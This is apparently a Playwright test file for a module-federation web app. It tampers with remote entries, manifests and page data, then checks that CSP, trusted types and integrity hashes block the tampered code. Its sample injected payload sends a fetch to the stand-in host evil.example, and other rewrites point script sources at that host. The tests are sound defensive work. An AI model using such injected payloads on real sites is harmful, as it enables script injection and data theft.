import { expect, test, type Page, type Route } from '@playwright/test';
import { breakFiles, EXPECTED, hangFirst, nameManifestsAlone } from '../remotes/faults.ts';
import { someOf } from '../../server/testing/long-run.ts';
import { NEWEST_NOTICE } from '../support/college.ts';
import { officeOf } from '../support/dashboard.ts';
import { useSite, type Visit } from '../support/site.ts';

const site = useSite({}, { sharesPages: true });
const office = officeOf(site);
const EVIL = 'https://evil.example';
const CODE = `globalThis.evil = true; fetch('${EVIL}/stolen').catch(() => undefined);`;
const AWAY = 'দুঃখিত, এই অংশটি লোড করা যায়নি।';
const options = {
  longestTimer: 5000,
  expects: [
    ...EXPECTED,
    /Content Security Policy/,
    /TrustedScriptURL/,
    /policy violated: (script-src|require-trusted-types-for)/,
  ],
};

/** The addresses that were answered with manipulated bytes. */
const manipulated: string[] = [];
test.beforeEach(() => void (manipulated.length = 0));

/** No statement of a stranger has run, and no byte has gone to them. */
async function nothingEvil({ page, fetched }: Visit) {
  expect(await page.evaluate(() => (globalThis as { evil?: boolean }).evil === true)).toBe(false);
  expect(fetched.filter(({ url }) => url.startsWith(EVIL))).toEqual([]);
}

const changed = (change: (body: string) => string) => async (route: Route) => {
  const response = await route.fetch();
  const body = await response.text();
  const answer = change(body);
  if (answer !== body) manipulated.push(route.request().url());
  await route.fulfill({ status: 200, headers: response.headers(), body: answer });
};

const barOf = (page: Page) =>
  page.getByRole('alert').getByRole('button', { name: 'আবার চেষ্টা করুন' });
const inDashboard = (page: Page) => page.getByText(AWAY).first();

/** Of attacks that are alike one, and all in a long run. */
const firstOf = <Attack>(all: readonly Attack[]) => someOf(all, (_, index) => index === 0);

for (const [attack, files] of firstOf([
  ['P1: a remote entry', /\/remotes\/public\/static\/remoteEntry/],
  ['P2: an exposed module', /\/remotes\/public\/static\/__federation_expose_routes/],
  ['P2: the code of a screen', /\/remotes\/public\/static\/notice\./],
] as const))
  test(`${attack} whose bytes were changed is not run, the page stays, and the evil origin has 0 hits`, async () => {
    await site.visit(options, async (visit) => {
      const { page } = visit;
      await breakFiles(
        page,
        files,
        changed((body) => `${CODE}\n${body}`),
      );
      await page.goto('/notice', { waitUntil: 'commit' });
      await barOf(page).waitFor();
      await page.getByRole('link', { name: NEWEST_NOTICE }).first().waitFor();
      expect(manipulated).not.toEqual([]);
      await nothingEvil(visit);
    });
  });

const manifestAttacks: [string, (body: string) => string][] = [
  [
    'P3: a manifest that names another origin for its files',
    (body) => body.replace(/"publicPath":\s*"auto"/, `"publicPath":"${EVIL}/"`),
  ],
  [
    'P3: a manifest that names an entry on another origin',
    (body) => body.replace(/"name":\s*"static\/remoteEntry[^"]*"/, `"name":"${EVIL}/entry.js"`),
  ],
  [
    'P4: a manifest that carries code for its address',
    (body) =>
      body.replace(
        /"publicPath":\s*"auto"/,
        `"getPublicPath":${JSON.stringify(`${CODE} return '/'`)}`,
      ),
  ],
];

for (const [attack, change] of firstOf(manifestAttacks))
  test(`${attack} leads to nothing of theirs, the dashboard stands or says so, and the evil origin has 0 hits`, async () => {
    await site.visit(options, async (visit) => {
      const { page } = visit;
      await office.signIn(page);
      await nameManifestsAlone(page);
      await breakFiles(page, /\/remotes\/admin\/mf-manifest/, changed(change));
      await page.goto('/dashboard', { waitUntil: 'commit' });
      // A manifest that lies about what this shell does not read is harmless; any other leads to the message.
      await page
        .getByRole('heading', { level: 1, name: 'সারসংক্ষেপ' })
        .or(inDashboard(page))
        .first()
        .waitFor();
      expect(manipulated).not.toEqual([]);
      await nothingEvil(visit);
    });
  });

for (const [subject, change] of firstOf([
  [
    'script',
    (body: string) => body.replace(/("admin_remote":.*?"script":")[^"]*/, `$1${EVIL}/entry.js`),
  ],
  [
    'file to be fetched ahead',
    (body: string) => body.replace(/("admin_remote":.*?"preload":\{")[^"]*/, `$1${EVIL}/routes.js`),
  ],
] as const))
  test(`P3: a page that names a ${subject} on another origin leads to nothing of theirs, the dashboard stands or says so, and the evil origin has 0 hits`, async () => {
    await site.visit(options, async (visit) => {
      const { page } = visit;
      await office.signIn(page);
      await breakFiles(page, /\/(remotes\.json|dashboard)$/, changed(change));
      await page.goto('/dashboard', { waitUntil: 'commit' });
      await page
        .getByRole('heading', { level: 1, name: 'সারসংক্ষেপ' })
        .or(inDashboard(page))
        .first()
        .waitFor();
      expect(manipulated).not.toEqual([]);
      await nothingEvil(visit);
    });
  });

test('P5: a remote entry that hangs is reported within five seconds, the dashboard opens on a retry, and the evil origin has 0 hits', async () => {
  await site.visit(options, async (visit) => {
    const { page } = visit;
    await office.signIn(page);
    await breakFiles(page, /\/remotes\/admin\/static\/remoteEntry/, hangFirst());
    await page.goto('/dashboard', { waitUntil: 'commit' });
    await page.getByRole('status').getByRole('button', { name: 'আবার চেষ্টা করুন' }).click();
    await page.getByRole('heading', { level: 1, name: 'সারসংক্ষেপ' }).waitFor();
    await nothingEvil(visit);
  });
});

test('P6: an entry of which no hash is known is not run, the dashboard says so, and the evil origin has 0 hits', async () => {
  await site.visit(options, async (visit) => {
    const { page, fetched } = visit;
    await office.signIn(page);
    const withoutHash = changed((body) => body.replace(/,"integrity":"sha384-[^"]*"/g, ''));
    await breakFiles(page, /\/dashboard$/, withoutHash);
    await breakFiles(page, /\/remotes\.json/, withoutHash);
    await page.goto('/dashboard', { waitUntil: 'commit' });
    await inDashboard(page).waitFor();
    expect(fetched.filter(({ url }) => url.includes('remoteEntry'))).toEqual([]);
    await nothingEvil(visit);
  });
});

test('a journey fails where a page breaks the security policy of the site', async () => {
  const visit = site.visit(
    { expects: [/Content Security Policy/, /Refused to/] },
    async ({ page }) => {
      await page.goto('/');
      const logged = page.waitForEvent('console', (message) =>
        message.text().startsWith('policy violated'),
      );
      await page.evaluate((address) => void (new Image().src = address), `${EVIL}/pixel.png`);
      await logged;
    },
  );
  await expect(visit).rejects.toThrow(/policy violated: img-src https:\/\/evil\.example/);
});
